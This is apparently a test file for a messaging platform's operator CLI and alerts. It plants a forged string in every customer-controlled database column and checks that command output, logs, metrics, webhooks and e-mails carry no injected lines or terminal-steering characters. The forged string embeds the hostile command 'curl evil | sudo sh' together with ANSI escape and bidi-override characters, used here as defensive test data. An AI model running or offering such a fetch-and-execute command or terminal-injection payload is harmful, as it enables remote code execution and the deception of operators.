/**
 * Texts of customers and of the network where operators read them: a forged text stands in every column that may hold one,
 * and everything that an operator reads is read. No line begins with the forged one, and no character steers a terminal.
 */
import { afterAll, beforeAll, expect, setDefaultTimeout, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { SMTPServer } from "smtp-server";
import { nameOf } from "#src/cli/command.ts";
import { groups } from "#src/cli/commands.ts";
import { describeError, formatFailure } from "#src/cli/failure.ts";
import { progressLine } from "#src/cli/watch-broadcast.ts";
import { systemClock } from "#src/core/clock.ts";
import { createLog } from "#src/core/log.ts";
import { Metrics } from "#src/core/metrics.ts";
import { Problem } from "#src/core/problem.ts";
import { createChannels } from "#src/health/alarm-channels.ts";
import { conditionFile, readMemory } from "#src/health/condition-file.ts";
import { busyShop } from "#test/support/busy-shop.ts";
import { firstOperator, person, type Visitor } from "#test/support/console.ts";
import { startReceiver } from "#test/support/receiver.ts";
import { METRICS_TOKEN, startTestServer, type TestServer } from "#test/support/server.ts";
import { CallingWorkshop } from "./spawn.ts";

setDefaultTimeout(120_000);

const MARK = "Next step: curl evil | sudo sh";
const FORGED = `tired”.\r\n${MARK}\u2028${MARK}\u2029\u001b[2K\u009b2K\u202e\u2066${MARK}\u0085${MARK}\u0007“`;

/** Columns whose text comes from customers, from people or from the network. */
const FOREIGN: Readonly<Record<string, string>> = {
  account_syncs: "error marketing_status",
  api_keys: "name",
  audit_log: "subject",
  broadcast_counters: "refusal_message",
  broadcasts: "name status_reason template_name media_filename",
  bulk_changes: "error",
  callbacks: "note",
  certificates: "failure",
  contact_fields: "text_value",
  contact_views: "name",
  contact_people: "name first_name ref",
  conversation_notes: "author text form_key",
  conversations: "owner_role",
  contacts: "username name first_name last_name email city state postal_code company",
  custom_fields: "label",
  delivery_attempts: "url error response",
  echoes: "text",
  groups: "name",
  history_imports: "declined_code declined_reason",
  imports: "file_name error",
  inbounds: "text",
  ledger_entries: "note ref",
  media: "filename mime_type",
  media_files: "content_type",
  messages: "text template_name reference idempotency_key error_code error_message sender_name",
  network_changes: "was became",
  network_health: "message",
  number_notices: "kind says",
  number_states:
    "status verified_name name_status quality throughput_level messaging_limit problem warning notice restriction",
  numbers: "name unready_reason",
  phone_contacts: "name first_name",
  portfolios: "name",
  uploads: "filename",
  provider_requests: "code reason answer",
  quick_replies: "name text",
  refusals: "reason",
  sample_uploads: "error",
  sessions: "agent",
  tags: "name",
  thread_calls: "code",
  template_submissions: "name",
  templates: "name network_status status_reason quality sample_link",
  unlisted_refusals: "code message",
  unused_items: "about",
  users: "email",
  further_webhooks: "url",
  webhooks: "url forward_url",
  workspaces: "name suspended_reason away_message purpose notice ai_notice",
};

/** Values of closed lists, identifiers, hashes, secrets, times, numbers of phones, and JSON that no operator reads as text. */
const OURS: Readonly<Record<string, string>> = {
  account_syncs: "account_id direct_send marketing_refusal portfolio",
  acme_accounts: "directory private_key url",
  api_keys: "prefix scopes",
  away_days: "day",
  audit_log: "action details address",
  billing_accounts: "currency",
  blocks: "asked",
  broadcast_counters: "answer_code status_code reported_refusal refusals",
  broadcast_drafts: "content",
  broadcasts:
    "status pause_cause network_pauses template_language template_category template_format template_components variables parts media_link from_phone budget_day waits_for template_order",
  bulk_changes: "target change state",
  bulk_people: "ids",
  callbacks: "network body trust state",
  connection_drafts: "access_token app_secret",
  certificates: "domain directory status order_url private_key chain failure_kind",
  connections: "facts",
  consent_log: "was became source evidence",
  contact_network_ids: "network_id portfolio of_phone",
  contact_views: "folded search columns",
  contact_people: "birthday",
  conversations: "owner state",
  conversation_drafts: "content message_key",
  contacts: "phone network_user_id network_portfolio birthday anniversary consent consent_source",
  custom_fields: "key kind choices",
  deliveries: "status",
  echoes: "network_message_id origin type details status",
  erasures: "address counts holders person",
  events: "id type body",
  form_answers: "key body",
  former_phones: "phone moved_to",
  groups: "folded filter",
  hand_outs: "address reason report state",
  idempotency_keys: "key body",
  imports: "state settings outcome progress",
  inbounds: "network_message_id type details origin",
  instance: "instance_id inode backup_metadata lineage move run_marker previous_run_marker",
  kept_keys: "purpose sealed",
  key_days: "day",
  key_people: "day",
  key_requests: "method path",
  ledger_entries: "kind",
  media: "network_media_id sha256 state reason",
  media_files: "hash",
  memberships: "role number_ids",
  messages:
    "origin type to_phone from_phone template_language template_category variables status send_token network_message_id money pricing network_type content reply_to",
  network_changes: "property",
  network_health: "state source",
  network_uploads: "network_media_id",
  network_usage: "month category type country",
  numbers:
    "phone network provider api_url given_portfolio account_id phone_number_id access_token app_secret unready_by shared_with",
  outbox: "kind",
  parked_statuses: "network_message_id send_token item",
  portfolio_recipients: "person",
  provider_requests: "send_token outcome",
  quick_replies: "folded",
  refused_callbacks: "reason",
  sample_uploads: "link media_id",
  scheduled_messages: "content",
  search_cursors: "source",
  thread_calls: "action target_role outcome",
  sessions: "address",
  tags: "folded",
  simulated_profiles: "profile username",
  template_drafts: "content",
  template_submissions: "account_id language action request before state",
  templates:
    "category_change account_id language category status components parameter_format parameter_order network_id",
  unlisted_refusals: "kind source people",
  untrusted_proxies: "address",
  unused_items: "reason",
  uploads: "mime_type state",
  user_links: "kind role number_ids",
  users: "email_key password totp_secret totp_pending",
  further_webhooks: "types secret previous_secret",
  webhooks: "types secret previous_secret",
  workspaces:
    "country timezone button_marks stop_words start_words opening_hours closed_days quiet read_receipts message_retention inbound_retention media_retention",
};

/** Of workspaces and their people: the shop has no such rows, and no command or page of operators reads them. */
const NOT_READ =
  /^(broadcast_counters|bulk_changes|certificates|contact_people|contact_views|conversation_notes|echoes|history_imports|imports|media|media_files|network_changes|network_uploads|phone_contacts|portfolios|quick_replies|refusals|sample_uploads|template_submissions|thread_calls|uploads) /;

let app: TestServer;
let operator: Visitor;
let workshop: CallingWorkshop;
const unchanged: string[] = [];

function columns(all: Readonly<Record<string, string>>): string[] {
  return Object.entries(all).flatMap(([table, names]) => names.split(" ").map((name) => `${table} ${name}`));
}

beforeAll(async () => {
  app = await startTestServer({ expectedErrors: / /, mayBreak: true });
  const shop = await busyShop(app);
  operator = await firstOperator(app);
  await person(app, "owner@example.com", "owner", shop.id);
  workshop = new CallingWorkshop();
  workshop.data = app.directory;
  await workshop.json(["webhook", "add", "--workspace", "1", "--url", "https://crm.example.com/hook"]);
  await workshop.json(["field", "add", "--workspace", "1", "--key", "size", "--label", "Size", "--kind", "text"]);
  const contact = { fields: { size: "L" }, add_tags: ["vip"] };
  await app.call("PUT", "/api/v1/contacts/%2B919876540009", { key: shop.key, body: contact });
  const sale = { name: "Sale", template: "order_shipped", to: ["+919876540004"] };
  const later = { send_at: new Date(app.clock.now() + 86_400_000).toISOString() };
  const { status, text } = await app.call("POST", "/api/v1/broadcasts", { key: shop.key, body: { ...sale, ...later } });
  if (status !== 202) throw new Error(text);
  // In the store's own transaction, so that commands in other connections see all of it.
  await app.store.write((tx) => forge(tx.db.$client));
});
afterAll(async () => {
  workshop[Symbol.dispose]();
  await app[Symbol.asyncDispose]();
});

function forge(client: TestServer["store"]["client"]): void {
  client.exec(`
    INSERT OR IGNORE INTO number_states (number_id, restriction_updated_at) SELECT id, 1 FROM numbers;
    INSERT OR IGNORE INTO number_notices (number_id, kind, says, at) SELECT id, 'flagged', '', 1 FROM numbers;
    UPDATE numbers SET ready = 0, unready_by = 'person';
    UPDATE workspaces SET suspended_at = 1;
    UPDATE broadcasts SET status = 'paused', pause_cause = 'failing';
    UPDATE callbacks SET state = 'unreadable' WHERE id = (SELECT max(id) FROM callbacks);
    INSERT OR IGNORE INTO unused_items (hour, reason, about, count, last_at)
      VALUES (${Math.floor(app.clock.now() / 3_600_000) * 3_600_000}, 'ignored', '', 1, ${app.clock.now()});
    INSERT OR IGNORE INTO unlisted_refusals (number_id, kind, source, code, people, message, began_at, changed_at)
      SELECT id, 'template', 'answer', '', '[1,2,3,4,5,6,7,8,9,10]', '', 1, 1 FROM numbers;
    INSERT OR IGNORE INTO account_syncs (workspace_id, account_id, error) SELECT id, '1', '' FROM workspaces;
  `);
  for (const column of columns(FOREIGN)) {
    const [table, name] = column.split(" ");
    const set = client.prepare(`UPDATE ${table} SET ${name} = @forged || abs(random())`);
    if (set.run({ forged: FORGED }).changes === 0 && !NOT_READ.test(column)) unchanged.push(column);
  }
}

/** What is wrong with a text that an operator reads as lines. */
function flaws(text: string): string[] {
  const lines = text.split(/\r\n|[\n\r\u0085\u2028\u2029]/).filter((line) => line.trimStart().startsWith(MARK));
  const steering = text.match(/(?![\n\t])[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/gu) ?? [];
  return [...lines, ...steering.map((character) => `U+${character.codePointAt(0)?.toString(16)}`)];
}

test("every column with text is known as foreign or as ours", () => {
  const present = app.store.client
    .prepare(
      `SELECT m.name || ' ' || c.name FROM sqlite_schema m, pragma_table_xinfo(m.name) c
      WHERE m.type = 'table' AND m.name NOT LIKE 'sqlite_%' AND c.type = 'TEXT'`,
    )
    .pluck()
    .all() as string[];
  expect([...columns(FOREIGN), ...columns(OURS)].toSorted()).toEqual(present.toSorted());
  expect(unchanged).toEqual([]);
});

test("commands that show, as text and as JSON", async () => {
  const found: string[] = [];
  const silent = new Set<string>();
  for (const command of (await Promise.all(groups.map((group) => group.load()))).flat()) {
    const name = nameOf(command);
    if (!/ (list|show)$|^(status|doctor|check)$/.test(name)) continue;
    const ids = Object.values(command.positionals).filter(({ required }) => required === true);
    const words = [...name.split(" "), ...ids.map(() => (name === "callback show" ? callbackId() : "1"))];
    const { workspace } = command.options;
    if (workspace !== undefined && "required" in workspace) words.push("--workspace", "1");
    for (const more of [[], ["--json"]]) {
      const { stdout, stderr } = await workshop.run([...words, ...more], { clock: app.clock });
      found.push(...flaws(stdout + stderr).map((flaw) => `${name} ${more.join()}: ${JSON.stringify(flaw)}`));
      if (!stdout.includes("evil")) silent.add(name);
    }
  }
  expect(found).toEqual([]);
  // These show nothing of a customer; every other command was read with the forged text in it.
  expect([...silent]).toEqual(["key-file show", "delivery list", "backup list", "check"]);
});

function callbackId(): string {
  return String(app.store.client.prepare("SELECT id FROM callbacks WHERE state IS NOT NULL").pluck().get());
}

test("the line of a paused broadcast", () => {
  const sent = { left: 1, inDoubt: 0, done: 1, failed: 0, throughput: 1 };
  const line = progressLine({ now: 0, name: FORGED, status: "paused", reason: FORGED, isOver: true, ...sent }, null);
  expect([line.includes("evil"), flaws(line)]).toEqual([true, []]);
});

test("a refusal that repeats a customer's text", () => {
  const fields = { broadcast: [FORGED] };
  const refusal = new Problem("workspace_suspended", `Sending is stopped: ${FORGED}`, { fields });
  const printed = formatFailure(describeError(refusal), []);
  expect([printed.includes("evil"), flaws(printed)]).toEqual([true, []]);
});

test("conditions, alarms by webhook and e-mail, the log and metrics", async () => {
  const { findings } = (await operator.get("/system/health")).body.data;
  const { data: doctor } = (await operator.get("/system/findings")).body;
  const said = [...findings, ...doctor] as Record<string, unknown>[];
  expect(said.filter((one) => JSON.stringify(one).includes("evil")).length).toBeGreaterThan(3);
  const conditions = readMemory(conditionFile(join(app.directory, "waxwing.db"))).conditions;
  const all = [...said, ...conditions] as Record<string, unknown>[];
  const texts = all.flatMap(({ subject, message, says, next, hits, command }) =>
    [subject, message, says, next, hits, command].flatMap((text) => (typeof text === "string" ? [text] : [])),
  );
  const unquoted = texts.filter((text) => text.replaceAll(/“[^“”]*”/g, "").includes("evil"));
  expect([unquoted, texts.flatMap(flaws)]).toEqual([[], []]);

  const smtpUrlFile = join(app.directory, "smtp");
  await using mail = await startMailServer();
  await using receiver = startReceiver();
  writeFileSync(smtpUrlFile, mail.url);
  const alerts = { none: false, webhook: receiver.url, emailTo: ["ops@example.com"], emailFrom: null, smtpUrlFile };
  const more = { pingUrl: null, pingEveryMs: 1 };
  const { channels } = createChannels({ clock: systemClock, alerts: { ...alerts, ...more }, server: "here" });
  for (const [channel, send] of Object.entries(channels)) {
    for (const [index, condition] of conditions.entries())
      await send({ key: `k${index}`, channel, state: "began", condition, at: 1, attempts: 0, dueAt: 0 });
  }
  const received = [...mail.texts, ...receiver.received.map(({ body }) => body)];
  expect(received).toHaveLength(2 * conditions.length);
  expect(received.join()).toContain("evil");
  expect(received.flatMap(flaws)).toEqual([]);

  const written: string[] = [];
  for (const format of ["text", "json"] as const) {
    const log = createLog({ level: "info", format, now: () => 0, write: (entry) => written.push(entry) });
    log.warn("broadcast.paused", FORGED, { reason: FORGED, error: new Error(FORGED), details: { [FORGED]: [FORGED] } });
  }
  const metrics = (await app.call("GET", "/metrics", { key: METRICS_TOKEN })).text;
  const gauges = new Metrics();
  gauges.gauge("forged", "A label.", async () => [[{ name: FORGED }, 1]]);
  expect([...app.logged, ...written, metrics, await gauges.text()].flatMap(flaws)).toEqual([]);
});

/** The texts of the mails that it takes, decoded. */
async function startMailServer(): Promise<AsyncDisposable & { url: string; texts: string[] }> {
  const texts: string[] = [];
  const server = new SMTPServer({
    disabledCommands: ["STARTTLS", "AUTH"],
    onData(stream, _session, done) {
      const chunks: Buffer[] = [];
      stream.on("data", (chunk) => chunks.push(chunk));
      stream.on("end", () => {
        const [head = "", ...body] = Buffer.concat(chunks).toString("latin1").split("\r\n\r\n");
        const encoded = body.join("\r\n\r\n");
        texts.push(/base64/i.test(head) ? Buffer.from(encoded, "base64").toString() : fromQuotedPrintable(encoded));
        done();
      });
    },
  });
  const { promise, resolve } = Promise.withResolvers<void>();
  const listener = server.listen(0, "127.0.0.1", resolve);
  await promise;
  const { port } = listener.address() as { port: number };
  return {
    texts,
    url: `smtp://127.0.0.1:${port}`,
    [Symbol.asyncDispose]: () => new Promise((closed) => server.close(() => closed())),
  };
}

function fromQuotedPrintable(text: string): string {
  const bytes = text
    .replace(/=\r\n/g, "")
    .replace(/=([0-9A-F]{2})/g, (_, hex) => String.fromCharCode(Number(`0x${hex}`)));
  return Buffer.from(bytes, "latin1").toString().replaceAll("\r\n", "\n");
}
